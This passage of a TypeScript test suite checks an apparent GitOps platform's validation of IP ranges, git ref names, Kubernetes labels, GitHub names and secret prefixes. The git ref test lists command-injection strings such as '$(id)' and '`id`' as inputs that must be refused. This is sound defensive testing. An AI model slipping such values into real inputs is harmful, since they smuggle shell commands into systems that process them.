    });

    it("refuses the IPv4 special-purpose ranges a VPC cannot use, and takes RFC 1918 ones", () => {
        // IANA IPv4 special-purpose registry (RFC 6890): 0/8 RFC 1122, 127/8 RFC 1122, 169.254/16
        // RFC 3927, 224/4 RFC 5771, 240/4 RFC 1112.
        assert.deepEqual(
            RESERVED_RANGES.map(([range]) => range),
            ["0.0.0.0/8", "127.0.0.0/8", "169.254.0.0/16", "224.0.0.0/4", "240.0.0.0/4"],
        );
    });

    it("checks ref names the way git check-ref-format --branch does", () => {
        // git Documentation/git-check-ref-format.txt: rules 1 (no component starting with "." or ending
        // ".lock"), 3 (".."), 4 (control characters, space, ~ ^ :), 5 (? * [), 6 (empty components,
        // trailing "/"), 7 (trailing "."), 8 ("@{"), 9 ("@"), 10 ("\"); --branch: no leading "-".
        const refused = ["HEAD", "@", "-main", "a b", "a\tb", "a~1", "a^", "a:b", "a?", "a*", "a[", "a\\b", "a..b"];
        refused.push(".hidden", "a/.x", "a.lock", "a//b", "a/", "a.", "a@{1}", "$(id)", "a;b", "a|b", "`id`");
        for (const name of refused) {
            assert.ok(gitRefProblem(name), name);
        }
        for (const name of ["main", "release/5.3", "v1.4.2", "grafana-10.1.4", "feature/a_b-c.d", "a@b"]) {
            assert.equal(gitRefProblem(name), undefined, name);
        }
    });

    it("checks label keys and values the way apimachinery does", () => {
        // kubernetes/apimachinery pkg/util/validation/validation.go: IsQualifiedName (name ≤ 63,
        // ([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9], optional DNS-1123 subdomain prefix ≤ 253 and "/"),
        // IsValidLabelValue (≤ 63, same shape, or empty).
        for (const key of ["app", "app.kubernetes.io/name", "A_b.c-D", "x".repeat(63), `${"a".repeat(253)}/n`]) {
            assert.equal(labelKeyProblem(key), undefined, key);
        }
        for (const key of [
            "",
            "-a",
            "a-",
            "a b",
            "x".repeat(64),
            "Example.com/a",
            "a/b/c",
            "/a",
            `${"a".repeat(254)}/n`,
        ]) {
            assert.ok(labelKeyProblem(key), key);
        }
        assert.ok(labelValue.safeParse("").success);
        assert.ok(labelValue.safeParse("v1.2_3-x").success);
        for (const value of ["-a", "a b", "x".repeat(64), "a/b"]) {
            assert.ok(!labelValue.safeParse(value).success, value);
        }
    });

    it("takes GitHub names as GitHub does", () => {
        // dead-claudia/github-limits README (user and organization names: ≤ 39, alphanumerics and single
        // hyphens, not at either end; repositories: "." and ".." reserved, pull request 5) and github/docs
        // issue 44518 (repository names: ASCII letters, digits, . - _, ≤ 100, no ".git" suffix).
        for (const owner of ["acme", "acme-platform", "a1-b2-c3", "x".repeat(39)]) {
            assert.ok(GITHUB_OWNER.test(owner), owner);
        }
        for (const owner of ["", "-acme", "acme-", "ac--me", "ac_me", "ac.me", "x".repeat(40)]) {
            assert.ok(!GITHUB_OWNER.test(owner), owner);
        }
        for (const name of ["payments-api", "a.b_c", "...", "x".repeat(100)]) {
            assert.ok(githubRepositoryName.safeParse(name).success, name);
        }
        for (const name of [".", "..", "a.git", "a b", "ä", "x".repeat(101)]) {
            assert.ok(!githubRepositoryName.safeParse(name).success, name);
        }
    });

    it("keeps a secrets prefix to its own stack", () => {
        // The operator's policy reads arn:...:secret:<prefix>/* (components/secrets/policy.ts).
        assert.equal(secretsPrefixProblem("gitops-platform/staging", "staging"), undefined);
        assert.equal(secretsPrefixProblem("acme/platform/production", "production"), undefined);
        assert.ok(secretsPrefixProblem("gitops-platform", "staging"));
        assert.ok(secretsPrefixProblem("gitops-platform/production", "staging"));
        assert.ok(secretsPrefixProblem("gitops-platform/staging/production", "production"));
        assert.ok(secretsPrefixProblem("gitops-platform/staging-old", "staging"));
    });

    it("needs the controllers the FluxInstance sync runs on", () => {
        // controlplaneio-fluxcd/flux-operator api/v1/fluxinstance_types.go (v0.58.1): Sync creates a
        // GitRepository (source-controller) and a Kustomization (kustomize-controller); an empty
        // components list means GetComponents' defaults.
        assert.deepEqual([...SYNC_CONTROLLERS], ["source-controller", "kustomize-controller"]);
    });
});

describe("guardrails: cross-section rules run on whatever parsed", () => {
    it("names an unknown team and secret keys without a store while the cluster section is broken", async () => {
        const file = stackFile("local", (c) => {
            Object.assign(cluster(c), { type: "gke" });
            apps(c)[0].team = "nobody";
            Reflect.deleteProperty(c, `${P}secrets`);
        });
        const { result, err } = await captureOutput(() => planMain(["--stack", "local", "--config", file]));
        assert.equal(result, 1);
        for (const key of [`${P}cluster.type`, `${P}apps[0].team`, `${P}apps[0].secretKeys`]) {
            assert.ok(err.includes(`  - ${key}: `), `${key} in:\n${err}`);
        }
    });
});
